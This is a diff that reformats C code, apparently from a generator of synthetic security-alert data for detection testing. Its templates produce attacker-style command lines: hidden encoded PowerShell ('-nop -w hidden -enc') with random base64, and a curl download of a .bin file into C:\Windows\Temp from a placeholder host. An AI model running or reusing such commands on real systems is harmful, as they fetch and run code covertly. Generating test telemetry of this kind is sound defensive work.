@@ -49,10 +49,8 @@ static void put_escaped(Row *r, const char *text) {
     for (; *text; text++) {
         if (*text == '"' || *text == '\\') put_char(r, '\\');
         if (*text == '/' && r->escapes_slashes) put_char(r, '\\');
-        if (*text == '&' && r->escapes_slashes)
-            row_puts(r, "\\u0026");
-        else
-            put_char(r, *text);
+        if (*text == '&' && r->escapes_slashes) row_puts(r, "\\u0026");
+        else put_char(r, *text);
     }
 }
 
@@ -220,8 +218,7 @@ static void put_process_file(Row *r) { put_text(r, processes[r->process].file); 
 static void put_process_folder(Row *r) { put_text(r, processes[r->process].folder); }
 
 static void put_hex_word(Row *r, char *word, unsigned digits) {
-    for (unsigned i = 0; i < digits; i++)
-        word[i] = "0123456789abcdef"[below(r, 16)];
+    for (unsigned i = 0; i < digits; i++) word[i] = "0123456789abcdef"[below(r, 16)];
     word[digits] = 0;
 }
 
@@ -229,8 +226,7 @@ static void put_hex_word(Row *r, char *word, unsigned digits) {
 static void put_powershell_line(Row *r) {
     char base64[201], line[400];
     static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    for (unsigned i = 0; i < sizeof base64 - 1; i++)
-        base64[i] = digits[below(r, 64)];
+    for (unsigned i = 0; i < sizeof base64 - 1; i++) base64[i] = digits[below(r, 64)];
     base64[sizeof base64 - 1] = 0;
     static const char *const forms[] = {"powershell.exe -nop -w hidden -enc %s",
                                         "powershell.exe -NonInteractive -EncodedCommand %s",
@@ -258,10 +254,8 @@ static void put_child_line(Row *r) {
         snprintf(line, sizeof line, "curl.exe -o C:\\Windows\\Temp\\%s.bin https://cdn.example/%s",
                  r->evil, r->evil);
         put_text(r, line);
-    } else if (once_in(r, 3))
-        put_line(r);
-    else
-        put_empty(r);
+    } else if (once_in(r, 3)) put_line(r);
+    else put_empty(r);
     r->process = own;
 }
 
@@ -287,8 +281,7 @@ static void put_alert_link(Row *r) {
 
 static void put_link(Row *r) {
     char link[200];
-    if (r->is_planted)
-        link_of_alert(r->alert, link, sizeof link);
+    if (r->is_planted) link_of_alert(r->alert, link, sizeof link);
     else if (r->evil)
         snprintf(link, sizeof link, "https://%s.example/download/%" PRIu64, r->evil,
                  below(r, 1000));
@@ -297,8 +290,7 @@ static void put_link(Row *r) {
                  "https://site-%" PRIu64 ".example/page/%" PRIu64
                  "?utm_source=mail&utm_id=%" PRIu64,
                  skewed(r, 5000), below(r, 100000), below(r, 1000));
-    else
-        link[0] = 0;
+    else link[0] = 0;
     put_text(r, link);
 }
 
@@ -463,22 +455,16 @@ static void put_entity(Row *r) {
     put_text(r, names[entity_of(r)]);
 }
 static void put_entity_link(Row *r) {
-    if (entity_of(r) == ENTITY_URL)
-        put_alert_link(r);
-    else
-        put_empty(r);
+    if (entity_of(r) == ENTITY_URL) put_alert_link(r);
+    else put_empty(r);
 }
 static void put_entity_message(Row *r) {
-    if (entity_of(r) == ENTITY_MAIL)
-        put_guid_of(r, "m", mail_of_alert(r));
-    else
-        put_empty(r);
+    if (entity_of(r) == ENTITY_MAIL) put_guid_of(r, "m", mail_of_alert(r));
+    else put_empty(r);
 }
 static void put_entity_file(Row *r) {
-    if (entity_of(r) == ENTITY_FILE)
-        put_process_file(r);
-    else
-        put_empty(r);
+    if (entity_of(r) == ENTITY_FILE) put_process_file(r);
+    else put_empty(r);
 }
 CONSTANT(put_role, "Related")
 CONSTANT(put_details, "{\\\"Asset\\\":false,\\\"CreatedBy\\\":\\\"sensor\\\",\\\"Roles\\\":[1,2]}")
